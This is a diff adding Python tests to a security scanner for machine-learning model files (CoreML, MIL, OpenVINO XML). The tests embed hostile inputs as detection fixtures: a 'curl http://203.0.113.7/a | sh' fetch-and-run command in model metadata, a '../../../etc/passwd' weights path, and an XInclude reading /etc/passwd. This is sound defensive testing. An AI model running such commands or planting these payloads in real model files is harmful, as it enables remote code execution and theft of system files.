@@ -5,12 +5,13 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from fixtures.make.coreml import block, custom, linear, model, network, operation, program, weights, words
-from fixtures.make.onnx_writer import message, text
+from fixtures.make.coreml import layer as layer_of_core_ml
+from fixtures.make.onnx_writer import message, number, text
 from fixtures.make.openvino import constant, graph, layer
 from fixtures.make.openvino import linear as openvino_linear
 from modelscan_plus.core.coverage import CoverageState
 from modelscan_plus.core.finding import Severity
-from tests.samples import inspect, rules, tree_of
+from tests.samples import inspect, inspect_tree, rules, tree_of
 
 
 def test_what_a_model_of_core_ml_is_is_told_by_its_fields() -> None:
@@ -35,6 +36,37 @@ def test_a_custom_class_is_found_wherever_it_is_named(data: bytes) -> None:
     found = [finding for finding in inspect(data, "model.mlmodel").findings if finding.rule == "MSP4120"]
     assert [finding.severity for finding in found] == [Severity.MEDIUM]
     assert '"Acme"' in found[0].message
+
+
+def test_a_class_of_the_system_is_no_layer() -> None:
+    found = inspect(model(message(555, text(10, "NSTask"))), "model.mlmodel").findings
+    assert [finding.severity for finding in found] == [Severity.HIGH]
+
+
+def test_what_the_publisher_says_is_looked_at_as_text() -> None:
+    command = "curl http://203.0.113.7/a | sh"
+    said = message(2, message(100, message(100, text(1, "setup"), text(2, command))))
+    data = number(1, 7) + said + network(layer_of_core_ml("dense"))
+    assert rules(command.encode(), "metadata.txt")
+    assert rules(command.encode(), "metadata.txt") <= rules(data, "model.mlmodel")
+
+
+MIL = (
+    "program(1.0)\n[buildInfo = dict<string, string>({})]\n{ func main<ios16>(tensor<fp32, [1, 64]> x) {\n"
+    'tensor<fp32, [2]> w = const()[val = tensor<fp32, [2]>(BLOBFILE(path = tensor<string, []>("@model_path/%s"), '
+    "offset = tensor<uint64, []>(%d)))];\n%s } -> (y); }\n"
+)
+
+
+def test_a_program_as_text_names_its_weights() -> None:
+    name = "weights/weight.bin"
+    for offset, rule in ((64, None), (1 << 20, "MSP4015")):
+        files = {"a.mlmodelc/model.mil": (MIL % (name, offset, "")).encode(), f"a.mlmodelc/{name}": weights(bytes(16))}
+        found = {finding.rule for finding in inspect_tree(files)}
+        assert found == ({rule} if rule else set())
+    assert "MSP4010" in rules((MIL % ("../../../etc/passwd", 64, "")).encode(), "model.mil")
+    custom_layer = 'q = custom_layer(x = x)[class_name = string("Acme")];'
+    assert "MSP4120" in rules((MIL % (name, 64, custom_layer)).encode(), "model.mil")
 
 
 def test_a_model_that_only_core_ml_reads_is_said_to_be_unread() -> None:
@@ -80,6 +112,11 @@ def test_entities_are_never_expanded() -> None:
     result = inspect(graph(before=bomb, name="&a19;"), "model.xml")
     assert "MSP4131" in {finding.rule for finding in result.findings}
     assert result.coverage.state is not CoverageState.ANALYSED
+
+
+def test_inclusions_are_found() -> None:
+    inside = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
+    assert "MSP4131" in rules(graph(layer(1, "Result", body=inside)), "model.xml")
 
 
 def test_depth_and_broken_xml_are_no_complete_reading() -> None:
